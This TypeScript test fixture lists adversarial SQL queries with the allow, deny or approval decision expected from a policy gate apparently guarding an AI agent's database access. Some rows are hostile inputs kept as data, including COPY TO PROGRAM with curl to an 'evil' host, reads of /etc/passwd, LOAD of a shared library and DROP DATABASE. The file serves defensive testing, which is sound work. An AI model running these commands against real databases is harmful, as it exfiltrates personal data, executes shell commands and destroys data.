// Adversarial SQL against a realistic policy (fixtures.ts prodPolicy): each row is what an
// agent might send and what Airlock must decide. The expected rule pins *why*, so a row
// cannot pass by accident. Shared by corpus.test.ts and the analysis-cache tests.

export type Expect = {
  action: 'allow' | 'deny' | 'require-approval';
  /** The deciding rule; undefined means no rule (allow, or a parse failure). */
  rule?: string;
  /** Kinds of the statements, in order (each statement's outer kind). */
  kinds?: string[];
};

export const corpus: [string, Expect][] = [
  // Plain reads and harmless utility.
  ['SELECT id, name FROM customers WHERE id = 1', { action: 'allow', kinds: ['SELECT'] }],
  ['select * from public.customers limit 10', { action: 'allow' }],
  ['SELECT count(*) FROM customers', { action: 'allow' }],
  ['SELECT ssn FROM customers', { action: 'allow' }],
  ['SELECT c.ssn AS s, c.email FROM public.customers c', { action: 'allow' }],
  ['SELECT * FROM (SELECT * FROM customers) s', { action: 'allow' }],
  [
    'SELECT name FROM customers c WHERE EXISTS (SELECT * FROM orders o WHERE o.cid = c.id)',
    { action: 'allow' },
  ],
  ['SHOW search_path', { action: 'allow', kinds: ['SHOW'] }],
  ['BEGIN; SELECT 1; COMMIT', { action: 'allow', kinds: ['BEGIN', 'SELECT', 'COMMIT'] }],
  ["SET statement_timeout = '5s'", { action: 'allow', kinds: ['SET'] }],
  ['', { action: 'allow', kinds: [] }],
  ['   \n\t  ', { action: 'allow', kinds: [] }],
  [';;', { action: 'allow', kinds: [] }],
  ['-- just a comment', { action: 'allow', kinds: [] }],
  ['SELECT $$DROP TABLE customers$$', { action: 'allow', kinds: ['SELECT'] }],
  ['SELECT $tag$ TRUNCATE t; DROP TABLE x $tag$ AS text', { action: 'allow', kinds: ['SELECT'] }],
  ["SELECT 'DROP TABLE t'", { action: 'allow', kinds: ['SELECT'] }],
  ['SELECT "drop" FROM t', { action: 'allow' }],
  ["INSERT INTO notes (body) VALUES ('hello')", { action: 'allow', kinds: ['INSERT'] }],

  // Destructive DDL in every disguise.
  ['DROP TABLE customers', { action: 'deny', rule: 'no-destructive-ddl', kinds: ['DROP'] }],
  ['drop table customers', { action: 'deny', rule: 'no-destructive-ddl' }],
  ['DrOp TaBlE customers', { action: 'deny', rule: 'no-destructive-ddl' }],
  ['/* harmless */ DROP TABLE t', { action: 'deny', rule: 'no-destructive-ddl' }],
  ['-- comment\nDROP TABLE t', { action: 'deny', rule: 'no-destructive-ddl' }],
  ['/* nested /* comment */ still */ DROP TABLE t', { action: 'deny', rule: 'no-destructive-ddl' }],
  ['DROP TABLE "Customers"', { action: 'deny', rule: 'no-destructive-ddl' }],
  ['DROP TABLE U&"cust\\006Fmers"', { action: 'deny', rule: 'no-destructive-ddl' }],
  ['SELECT 1; DROP TABLE t', { action: 'deny', rule: 'no-destructive-ddl', kinds: ['SELECT', 'DROP'] }],
  ['SELECT 1;DROP TABLE t;', { action: 'deny', rule: 'no-destructive-ddl', kinds: ['SELECT', 'DROP'] }],
  ['TRUNCATE customers', { action: 'deny', rule: 'no-destructive-ddl', kinds: ['TRUNCATE'] }],
  ['ALTER TABLE customers DROP COLUMN ssn', { action: 'deny', rule: 'no-destructive-ddl', kinds: ['ALTER'] }],
  ['ALTER TABLE customers RENAME TO old', { action: 'deny', rule: 'no-destructive-ddl' }],
  ['DROP SCHEMA public CASCADE', { action: 'deny', rule: 'no-destructive-ddl' }],
  ['DROP ROLE bob', { action: 'deny', rule: 'no-destructive-ddl' }],
  ['DROP DATABASE prod', { action: 'deny', rule: 'no-destructive-ddl' }],

  // Unparsable text is denied, never guessed at.
  ['DR/**/OP TABLE t', { action: 'deny' }],
  ['SELEC * FROM t', { action: 'deny' }],
  ["SELECT 'unterminated", { action: 'deny' }],
  ['SELECT 1; DROPP TABLE t', { action: 'deny' }],
  ['DROP TABLE t\u0000', { action: 'deny' }],

  // Writes: bounded ones need approval, unbounded ones are refused.
  [
    'DELETE FROM orders WHERE id = 42',
    { action: 'require-approval', rule: 'approve-writes', kinds: ['DELETE'] },
  ],
  ['UPDATE orders SET status = $1 WHERE id = $2', { action: 'require-approval', rule: 'approve-writes' }],
  ['DELETE FROM orders', { action: 'deny', rule: 'no-unbounded-writes' }],
  ['UPDATE orders SET status = 0', { action: 'deny', rule: 'no-unbounded-writes' }],
  ['DELETE FROM orders WHERE 1=1', { action: 'deny', rule: 'no-unbounded-writes' }],
  ['DELETE FROM orders WHERE true', { action: 'deny', rule: 'no-unbounded-writes' }],
  ["DELETE FROM orders WHERE 'a'='a'", { action: 'deny', rule: 'no-unbounded-writes' }],
  ['DELETE FROM orders WHERE NOT false', { action: 'deny', rule: 'no-unbounded-writes' }],
  ['DELETE FROM orders WHERE id = 1 OR true', { action: 'deny', rule: 'no-unbounded-writes' }],
  ['DELETE FROM orders WHERE id = id', { action: 'deny', rule: 'no-unbounded-writes' }],
  ['DELETE FROM orders WHERE 1 IS NOT NULL', { action: 'deny', rule: 'no-unbounded-writes' }],
  ["DELETE FROM orders WHERE 't'::boolean", { action: 'deny', rule: 'no-unbounded-writes' }],
  ["DELETE FROM orders WHERE status LIKE '%'", { action: 'deny', rule: 'no-unbounded-writes' }],
  [
    'DELETE FROM orders WHERE status IS NULL OR status IS NOT NULL',
    { action: 'deny', rule: 'no-unbounded-writes' },
  ],
  ["DELETE FROM orders WHERE now() > '2000-01-01'", { action: 'deny', rule: 'no-unbounded-writes' }],
  ['DELETE FROM orders o USING customers c WHERE c.id = 1', { action: 'deny', rule: 'no-unbounded-writes' }],
  [
    'DELETE FROM orders o USING customers c WHERE o.cid = c.id AND c.id = 1',
    {
      action: 'require-approval',
      rule: 'approve-writes',
    },
  ],
  [
    'DELETE FROM orders WHERE EXISTS (SELECT 1 FROM customers WHERE id = 5)',
    {
      action: 'deny',
      rule: 'no-unbounded-writes',
    },
  ],
  [
    'delete from orders where id in (select oid from stale)',
    { action: 'require-approval', rule: 'approve-writes' },
  ],

  // Writes hidden inside other statements.
  [
    'WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING id) SELECT * FROM d',
    {
      action: 'require-approval',
      rule: 'approve-writes',
      kinds: ['SELECT'],
    },
  ],
  [
    'WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d',
    { action: 'deny', rule: 'no-unbounded-writes' },
  ],
  ['EXPLAIN ANALYZE DELETE FROM orders', { action: 'deny', rule: 'no-unbounded-writes', kinds: ['EXPLAIN'] }],
  ['EXPLAIN ANALYZE DELETE FROM orders WHERE id = 3', { action: 'require-approval', rule: 'approve-writes' }],
  // EXPLAIN only takes DML: a parse error, so denied without a rule.
  ['EXPLAIN DROP TABLE t', { action: 'deny' }],
  [
    'PREPARE p(int) AS DELETE FROM orders WHERE id = $1',
    {
      action: 'require-approval',
      rule: 'approve-writes',
      kinds: ['PREPARE'],
    },
  ],
  ['PREPARE q AS DELETE FROM orders', { action: 'deny', rule: 'no-unbounded-writes' }],
  ['EXECUTE p(1)', { action: 'allow', kinds: ['EXECUTE'] }],
  [
    'MERGE INTO orders o USING incoming i ON true WHEN MATCHED THEN DELETE',
    { action: 'deny', rule: 'no-unbounded-writes' },
  ],
  [
    'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; SELECT 1; END',
    {
      action: 'deny',
      rule: 'no-unbounded-writes',
    },
  ],

  // Admin: code execution, identity, server settings.
  // A DO block may run any statement: every rule on a kind matches it.
  ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", { action: 'deny', rule: 'no-destructive-ddl' }],
  ["DO LANGUAGE plpgsql 'BEGIN NULL; END'", { action: 'deny', rule: 'no-destructive-ddl' }],
  ['CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql', { action: 'deny', rule: 'no-admin' }],
  [
    'CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN END $$',
    { action: 'deny', rule: 'no-admin' },
  ],
  ["COPY orders TO PROGRAM 'curl -d @- http://evil'", { action: 'deny', rule: 'no-admin', kinds: ['COPY'] }],
  ["COPY orders FROM PROGRAM 'id'", { action: 'deny', rule: 'no-admin' }],
  ["COPY orders FROM '/etc/passwd'", { action: 'deny', rule: 'no-admin' }],
  ['COPY orders FROM STDIN', { action: 'allow', kinds: ['COPY'] }],
  ['COPY notes (body) TO STDOUT', { action: 'allow' }],
  // A whole-table COPY sends every column; without the catalog, *.card_number could be one.
  ['COPY orders TO STDOUT', { action: 'deny', rule: 'masking:pii' }],
  ['SET ROLE postgres', { action: 'deny', rule: 'no-admin', kinds: ['SET'] }],
  ['set role postgres', { action: 'deny', rule: 'no-admin' }],
  ["SET LOCAL ROLE 'postgres'", { action: 'deny', rule: 'no-admin' }],
  ['RESET ROLE', { action: 'deny', rule: 'no-admin', kinds: ['RESET'] }],
  ['SET SESSION AUTHORIZATION postgres', { action: 'deny', rule: 'no-admin' }],
  ["SELECT set_config('role', 'postgres', false)", { action: 'deny', rule: 'no-admin' }],
  ["SELECT set_config('app.tenant', '42', false)", { action: 'allow' }],
  ["ALTER SYSTEM SET shared_preload_libraries = 'evil'", { action: 'deny', rule: 'no-destructive-ddl' }],
  ["LOAD '/tmp/evil.so'", { action: 'deny', rule: 'no-admin', kinds: ['LOAD'] }],
  ['CREATE EXTENSION dblink', { action: 'deny', rule: 'no-admin' }],
  ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", { action: 'deny', rule: 'no-admin' }],
  ["SELECT pg_read_file('/etc/passwd')", { action: 'deny', rule: 'no-admin' }],
  [
    "SELECT query_to_xml('DELETE FROM orders RETURNING *', true, false, '')",
    { action: 'deny', rule: 'no-admin' },
  ],
  [
    'SELECT (SELECT pg_terminate_backend(pid) FROM pg_stat_activity LIMIT 1)',
    { action: 'deny', rule: 'no-admin' },
  ],

  // Masked columns used indirectly.
  ["SELECT encode(ssn::bytea, 'hex') FROM customers", { action: 'deny', rule: 'masking:pii' }],
  ["SELECT id FROM customers WHERE ssn LIKE '1%'", { action: 'deny', rule: 'masking:pii' }],
  ["SELECT ssn FROM customers UNION SELECT 'x'", { action: 'deny', rule: 'masking:pii' }],
  ['SELECT id FROM customers ORDER BY ssn', { action: 'deny', rule: 'masking:pii' }],
  // Sorting or grouping by a masked column through its position or its alias reveals its order.
  ['SELECT id, ssn FROM customers ORDER BY 2', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT id, ssn FROM customers GROUP BY 2, 1', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT ssn AS s, id FROM customers ORDER BY s DESC', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT DISTINCT ON (2) id, c.ssn FROM customers c', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT id, ssn FROM customers ORDER BY 1', { action: 'allow' }],
  ['SELECT id AS ssn_ref, ssn FROM customers ORDER BY ssn_ref', { action: 'allow' }],
  ['SELECT lower(c.email) FROM public.customers c', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT row_to_json(c) FROM customers c', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT row_to_json(c.*) FROM customers c', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT c FROM customers c', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT (c).ssn FROM customers c', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT * FROM customers UNION ALL SELECT * FROM customers', { action: 'deny', rule: 'masking:pii' }],
  ['INSERT INTO mine SELECT * FROM customers', { action: 'deny', rule: 'masking:pii' }],
  ['CREATE TABLE mine AS SELECT ssn FROM customers', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT ssn INTO mine FROM customers', { action: 'deny', rule: 'masking:pii' }],
  ['COPY customers TO STDOUT', { action: 'deny', rule: 'masking:pii' }],
  ['COPY (SELECT ssn FROM customers) TO STDOUT', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT s.x FROM (SELECT ssn AS x FROM customers) s', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT id FROM orders o JOIN customers c ON c.ssn = o.ref', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT max(card_number) FROM payments', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT id FROM customers GROUP BY ssn', { action: 'deny', rule: 'masking:pii' }],
  [
    "SELECT id FROM customers WHERE phone LIKE '+1%'",
    { action: 'require-approval', rule: 'masking:contact' },
  ],
  ['SELECT phone FROM customers', { action: 'allow' }],
  ['SELECT lower(name) FROM customers WHERE id > 10 ORDER BY name', { action: 'allow' }],
  ['SELECT id, lower(name) FROM customers WHERE id = 1', { action: 'allow' }],

  // Lineage: a masked column renamed by an alias column list is still the masked column.
  ['SELECT upper(e) FROM public.customers AS c(i, n, e)', { action: 'deny', rule: 'masking:pii' }],
  ["SELECT encode(x.e::bytea, 'hex') FROM customers x(a, b, e)", { action: 'deny', rule: 'masking:pii' }],
  ['SELECT e FROM customers AS c(i, n, e)', { action: 'allow' }],
  [
    'SELECT upper(e) FROM customers AS c(i, n, e) TABLESAMPLE SYSTEM (100)',
    { action: 'deny', rule: 'masking:pii' },
  ],
  ['SELECT 1; SELECT md5(c.e) FROM customers c(i, n, e)', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT upper(EMAIL) FROM PUBLIC.CUSTOMERS /* email */', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT upper(z) FROM (SELECT * FROM customers) s(a, b, z)', { action: 'deny', rule: 'masking:pii' }],
  [
    'WITH w(a, b, z) AS (SELECT * FROM customers) SELECT md5(z) FROM w',
    { action: 'deny', rule: 'masking:pii' },
  ],
  [
    'WITH w AS (SELECT * FROM customers) SELECT md5(z) FROM w AS v(a, b, z)',
    { action: 'deny', rule: 'masking:pii' },
  ],
  [
    'SELECT translate(j.z, $$0123456789$$, $$abcdefghij$$) FROM (customers JOIN orders USING (id)) AS j(a, b, z)',
    { action: 'deny', rule: 'masking:pii' },
  ],
  ['SELECT x FROM customers c, LATERAL (VALUES (c.ssn)) v(x)', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT u FROM customers c, unnest(ARRAY[c.email]) u', { action: 'deny', rule: 'masking:pii' }],
  [
    'SELECT * FROM customers c, json_to_record(row_to_json(c)) AS r(ssn text)',
    { action: 'deny', rule: 'masking:pii' },
  ],
  ['SELECT ARRAY(SELECT * FROM customers)', { action: 'deny', rule: 'masking:pii' }],
  ["SELECT 1 WHERE ('1', 'a@b.c') IN (SELECT * FROM customers)", { action: 'deny', rule: 'masking:pii' }],
  ['SELECT i * 2 FROM generate_series(1, 10) AS g(i)', { action: 'allow' }],
  ['SELECT x[s] FROM generate_series(1, 3) s, (SELECT ARRAY[1, 2, 3] AS x) a', { action: 'allow' }],
  ['INSERT INTO notes SELECT * FROM generate_series(1, 3)', { action: 'allow' }],
  ['SELECT to_json(g) FROM customers c, unnest(ARRAY[c.email]) g', { action: 'deny', rule: 'masking:pii' }],
  [
    'SELECT to_json(t) FROM customers c, json_to_record(to_json(c)) AS t(a int)',
    { action: 'deny', rule: 'masking:pii' },
  ],
  [
    'INSERT INTO notes SELECT * FROM customers c, LATERAL unnest(ARRAY[c.ssn])',
    { action: 'deny', rule: 'masking:pii' },
  ],
  // Sorting or grouping by a position a star expands to.
  ['SELECT * FROM customers ORDER BY 3', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT c.*, 1 FROM customers c GROUP BY 1, 2, 3, 4, 5, 6', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT DISTINCT ON (4) * FROM customers', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT 1, * FROM orders ORDER BY 1', { action: 'allow' }],
  // Renaming or moving takes a masked column out from under its rule's name.
  ['ALTER TABLE customers RENAME COLUMN email TO e2', { action: 'deny', rule: 'no-destructive-ddl' }],
  // Join conditions are predicates.
  ['SELECT o.id FROM orders o JOIN customers c USING (ssn)', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT o.id FROM orders o NATURAL JOIN customers c', { action: 'deny', rule: 'masking:pii' }],
  [
    'SELECT id FROM customers WHERE CASE WHEN ssn > $$5$$ THEN true END',
    { action: 'deny', rule: 'masking:pii' },
  ],
  ['SELECT id, ssn > $$5$$ FROM customers', { action: 'deny', rule: 'masking:pii' }],
  [
    'SELECT id FROM customers LIMIT (SELECT length(ssn) FROM customers LIMIT 1)',
    { action: 'deny', rule: 'masking:pii' },
  ],
  [
    'SELECT id, row_number() OVER (PARTITION BY email) FROM customers',
    { action: 'deny', rule: 'masking:pii' },
  ],
  // Data copied where it can be read unmasked later.
  ['CREATE TEMP VIEW v AS SELECT * FROM customers', { action: 'deny', rule: 'masking:pii' }],
  ['CREATE MATERIALIZED VIEW v AS SELECT email FROM customers', { action: 'deny', rule: 'masking:pii' }],
  ['UPDATE customers SET name = email WHERE id = 1', { action: 'deny', rule: 'masking:pii' }],
  ['DECLARE c CURSOR FOR SELECT ssn FROM customers', { action: 'deny', rule: 'masking:pii' }],
  [
    'MERGE INTO notes n USING customers c ON n.id = c.id WHEN NOT MATCHED THEN INSERT VALUES (c.id, c.email)',
    { action: 'deny', rule: 'masking:pii' },
  ],
  // Functions that run SQL text or read relations by name, and functions the analysis cannot see into.
  ["SELECT * FROM ts_stat('SELECT to_tsvector(email) FROM customers')", { action: 'deny', rule: 'no-admin' }],
  ["SELECT table_to_xml('customers', true, false, '')", { action: 'deny', rule: 'no-admin' }],
  ["SELECT cursor_to_xml('c', 10, true, false, '')", { action: 'deny', rule: 'no-admin' }],
  ['SELECT public.lookup(1)', { action: 'deny', rule: 'no-admin' }],
  ['SELECT "LOWER"(name) FROM customers', { action: 'deny', rule: 'no-admin' }],
  ['SELECT pg_catalog.lower(name) FROM customers', { action: 'allow' }],
  ['SELECT id FROM orders WHERE id OPERATOR(public.===) 1', { action: 'deny', rule: 'no-admin' }],
  ['SELECT id FROM orders WHERE id OPERATOR(pg_catalog.=) 1', { action: 'allow' }],
  ['CALL archive(1)', { action: 'deny', rule: 'no-admin' }],
  // A search_path that puts another schema before pg_catalog makes built-in names mean user functions.
  ['SET search_path = public, pg_catalog', { action: 'deny', rule: 'no-admin', kinds: ['SET'] }],
  ["SELECT set_config('search_path', 'public,PG_CATALOG', false)", { action: 'deny', rule: 'no-admin' }],
  ["SELECT set_config('search_path', 'public,\"PG_CATALOG\"', false)", { action: 'allow' }],
  ['SET search_path = pg_catalog, public', { action: 'allow' }],
  ['SET search_path TO DEFAULT', { action: 'allow' }],
  // Quoting, unicode escapes, dollar quoting and escape strings change nothing.
  ['SELECT upper(U&"\\0065mail") FROM customers', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT upper("email") FROM "public"."customers"', { action: 'deny', rule: 'masking:pii' }],
  [
    'SELECT * FROM ts_stat($q$SELECT to_tsvector(email) FROM customers$q$)',
    { action: 'deny', rule: 'no-admin' },
  ],
  [
    "SELECT * FROM ts_stat(E'SELECT to_tsvector(\\x65mail) FROM customers')",
    { action: 'deny', rule: 'no-admin' },
  ],
  [
    'CREATE RULE r AS ON INSERT TO notes DO ALSO INSERT INTO loot SELECT * FROM customers',
    { action: 'deny', rule: 'masking:pii' },
  ],
  // Catalogs that hold column values.
  [
    'SELECT most_common_vals FROM pg_stats WHERE tablename = $$customers$$',
    { action: 'deny', rule: 'masking:pii' },
  ],
  ['SELECT * FROM pg_catalog.pg_statistic', { action: 'deny', rule: 'masking:pii' }],
  ['SELECT * FROM pg_stats_ext_exprs', { action: 'deny', rule: 'masking:pii' }],
  // Writes by what they do.
  [
    'MERGE INTO orders o USING incoming i ON o.id = i.id WHEN MATCHED THEN DELETE',
    { action: 'require-approval', rule: 'approve-writes', kinds: ['MERGE'] },
  ],
  [
    'MERGE INTO orders o USING incoming i ON o.id = i.id WHEN NOT MATCHED THEN INSERT VALUES (i.id)',
    { action: 'allow' },
  ],
  [
    'MERGE INTO orders o USING incoming i ON true WHEN NOT MATCHED THEN INSERT VALUES (i.id)',
    { action: 'allow' },
  ],
  [
    'MERGE INTO orders o USING incoming i ON o.id = o.id WHEN MATCHED THEN UPDATE SET status = 1',
    { action: 'deny', rule: 'no-unbounded-writes' },
  ],
  [
    'INSERT INTO orders VALUES (1, 0) ON CONFLICT (id) DO UPDATE SET status = 1',
    { action: 'require-approval', rule: 'approve-writes' },
  ],
  [
    'INSERT INTO orders SELECT * FROM orders ON CONFLICT (id) DO UPDATE SET status = 0',
    { action: 'deny', rule: 'no-unbounded-writes' },
  ],
  ['INSERT INTO orders VALUES (1, 0) ON CONFLICT DO NOTHING', { action: 'allow' }],
  // COPY from the parse tree: comments and casing do not hide it.
  ['copy/**/customers to stdout', { action: 'deny', rule: 'masking:pii' }],
  ['COPY (SELECT * FROM customers) TO STDOUT WITH (FORMAT binary)', { action: 'deny', rule: 'masking:pii' }],
];

/**
 * Against fixtures.ts schemaPolicy. SET search_path = audit makes an unqualified name mean
 * audit.name, so an unqualified name is taken to be in every schema.
 */
export const schemaCorpus: [string, Expect][] = [
  ['SET search_path = audit', { action: 'allow', kinds: ['SET'] }],
  [
    'SET search_path = audit; DELETE FROM events WHERE id = 1',
    { action: 'deny', rule: 'protect-audit', kinds: ['SET', 'DELETE'] },
  ],
  ["SELECT set_config('search_path', 'audit', false)", { action: 'allow' }],
  ['DELETE FROM events WHERE id = 1', { action: 'deny', rule: 'protect-audit' }],
  ['delete from EVENTS where id = 1', { action: 'deny', rule: 'protect-audit' }],
  ['UPDATE "events" SET x = 1 WHERE id = 2', { action: 'deny', rule: 'protect-audit' }],
  ['INSERT INTO events VALUES (1)', { action: 'deny', rule: 'protect-audit' }],
  ['TRUNCATE events', { action: 'deny', rule: 'protect-audit' }],
  ['DROP TABLE events', { action: 'deny', rule: 'protect-audit' }],
  [
    'WITH d AS (DELETE FROM events WHERE id = 1 RETURNING *) SELECT * FROM d',
    { action: 'deny', rule: 'protect-audit' },
  ],
  ['DELETE FROM audit.events WHERE id = 1', { action: 'deny', rule: 'protect-audit' }],
  ['DELETE FROM Audit.Events WHERE id = 1', { action: 'deny', rule: 'protect-audit' }],
  ['DELETE FROM prod.audit.events WHERE id = 1', { action: 'deny', rule: 'protect-audit' }],
  // Written with another schema, the name cannot be resolved into audit.
  ['DELETE FROM public.events WHERE id = 1', { action: 'allow' }],
  ['SELECT * FROM events', { action: 'allow' }],
  ['SELECT purge_all()', { action: 'deny', rule: 'no-purge' }],
  ['SELECT audit.purge_all()', { action: 'deny', rule: 'no-purge' }],
  ['SELECT public.purge_all()', { action: 'allow' }],
  // An unqualified name could be audit's as well as billing's: the strictest rule wins.
  [
    'SET search_path = billing; UPDATE invoices SET paid = true WHERE id = 1',
    { action: 'deny', rule: 'protect-audit' },
  ],
  [
    'UPDATE billing.invoices SET paid = true WHERE id = 1',
    { action: 'require-approval', rule: 'approve-billing' },
  ],
  ['SET search_path = billing; SELECT close_month()', { action: 'require-approval', rule: 'approve-close' }],
  ['SELECT sales.close_month()', { action: 'allow' }],
  ['UPDATE sales.invoices SET paid = true WHERE id = 1', { action: 'allow' }],
];
